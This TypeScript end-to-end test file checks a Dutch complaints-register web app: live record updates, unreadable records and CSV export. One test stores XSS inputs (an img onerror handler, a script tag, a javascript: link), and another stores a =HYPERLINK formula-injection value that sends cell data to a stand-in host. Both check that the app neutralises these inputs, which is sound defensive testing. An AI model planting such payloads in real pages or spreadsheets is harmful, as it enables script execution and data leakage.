import { mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import papa from "papaparse";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from "vitest";
import { dayIn } from "../scripts/clock.ts";
import { formatRecord } from "../scripts/front-matter.ts";
import { screenInDutch as words } from "../site/app/screen-words-nl.ts";
import { numbersIn, statusOf, visitDemo } from "./visit.ts";

const visit = visitDemo();
const today = dayIn("Europe/Amsterdam", new Date());
const year = today.slice(0, 4);
const id = `KL-${year}-AAAA`;
let page: Page;

beforeAll(async () => {
  page = await visit().enter();
});
afterAll(() => page.context().close());

const facts = { id, kind: "dissatisfaction", receivedOn: today, receivedBy: "tr1", channel: "phone" };
const countOf = (more: number) => visit().files.complaints.length + more;
const result = (count: number) => statusOf(page, words.results(count, count));

/** Writes a record into the register that is being shown, until the test ends. */
function write(text: string): void {
  const path = join(visit().demo.folder, year, id, "index.md");
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, text);
  onTestFinished(() => rmSync(dirname(path), { recursive: true, force: true }));
}

async function openRegister(): Promise<void> {
  await page.goto(`${visit().demo.address}#/register`);
  await page.getByRole("searchbox").waitFor();
}

describe("a record that is written while the register is looked at", () => {
  it("shows without a reload, and goes when it is taken away", async () => {
    await openRegister();
    await result(countOf(0)).waitFor();
    write(formatRecord({ ...facts, summary: "Zojuist geschreven" }, ""));
    await result(countOf(1)).waitFor();
    await page.getByRole("searchbox").fill("zojuist geschreven");
    await page.getByRole("link", { name: "Zojuist geschreven" }).click();
    await page.getByRole("heading", { level: 1, name: "Zojuist geschreven" }).waitFor();
    rmSync(join(visit().demo.folder, year, id), { recursive: true });
    await page.getByRole("heading", { level: 1, name: words.complaintMissing }).waitFor();
    await openRegister();
    await page.getByRole("searchbox").fill("");
  });

  it("is harmless text when it tries to be a program", async () => {
    const picture = `<img src="https://example.invalid/x.png" onerror="window.taken = true">`;
    const program = `<script>window.taken = true</script>`;
    const link = `[klik](javascript:window.taken=true) ![beeld](https://example.invalid/y.png)`;
    write(formatRecord({ ...facts, summary: picture, wish: program }, [program, picture, link].join("\n\n")));
    await page.goto(`${visit().demo.address}#/complaint/${id}`);
    await page.getByRole("heading", { level: 1, name: picture }).waitFor();
    const main = page.getByRole("main");
    await main.getByText("klik").waitFor();
    expect(await main.innerText()).toContain(program);
    expect(await main.locator("script, img, iframe, svg, [onerror], a[href^='javascript' i]").count()).toBe(
      0,
    );
    expect(await page.evaluate(() => "taken" in window)).toBe(false);
  });

  it("is named among the findings when it cannot be read, and disturbs nothing else", async () => {
    write(`---\nid: ${id}\nreceivedOn: ${today}\nwish: [Jansen\n---\nKwartel\n`);
    await page.goto(`${visit().demo.address}#/`);
    const findings = page.locator("section").filter({ hasText: words.findingsTitle });
    const link = findings.getByRole("link", { name: id, exact: true });
    await link.waitFor();
    expect(await findings.innerText()).toContain(words.findingsCount(1));
    expect(await findings.innerText()).not.toMatch(/Jansen|Kwartel/);
    await openRegister();
    await result(countOf(1)).waitFor();
    await page.goto(`${visit().demo.address}#/complaint/${id}`);
    await page.getByRole("heading", { level: 1, name: words.noSummary }).waitFor();
  });
});

describe("the CSV file", () => {
  /** The rows that a spreadsheet reads in the file that the page offers, the headings first. */
  async function downloaded(): Promise<readonly (readonly string[])[]> {
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: words.download }).click(),
    ]);
    expect(download.suggestedFilename()).toMatch(/^klachtenregister-\d{4}-\d\d-\d\d\.csv$/);
    const text = readFileSync(await download.path(), "utf8");
    expect(text.startsWith("\uFEFF")).toBe(true);
    const { data, errors } = papa.parse<string[]>(text.slice(1), { delimiter: ";" });
    expect(errors).toEqual([]);
    return data;
  }

  it("holds every complaint of the choice, on all pages, in the order of the table", async () => {
    await openRegister();
    await result(countOf(0)).waitFor();
    const [headings = [], ...rows] = await downloaded();
    const { complaints } = visit().files;
    const byReceipt = rows.map((row) => row[headings.indexOf("Ontvangen op")]);
    expect(byReceipt).toEqual(
      complaints
        .map(({ receivedOn }) => receivedOn)
        .toSorted()
        .toReversed(),
    );
    const summaries = new Map(rows.map((row) => [row[0], row[headings.indexOf("Neutrale samenvatting")]]));
    expect(summaries).toEqual(new Map(complaints.map(({ id, summary }) => [id, summary ?? ""])));
  });

  it("holds no cell that a spreadsheet would run, and keeps quotes, semicolons and lines", async () => {
    const summary = `=HYPERLINK("https://example.invalid/?"&A1; "klik")`;
    write(formatRecord({ ...facts, summary }, ""));
    await openRegister();
    await result(countOf(1)).waitFor();
    const [, ...rows] = await downloaded();
    expect(rows.find(([number]) => number === id)).toContain(`'${summary}`);
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  it("holds the chosen complaints alone", async () => {
    await openRegister();
    await page.getByRole("combobox", { name: words.filters, exact: true }).selectOption("late");
    const count = (await numbersIn(page.getByRole("table"))).length;
    const [, ...rows] = await downloaded();
    expect(rows.map(([number]) => number)).toEqual(await numbersIn(page.getByRole("table")));
    expect(count).toBeGreaterThan(0);
  });
});
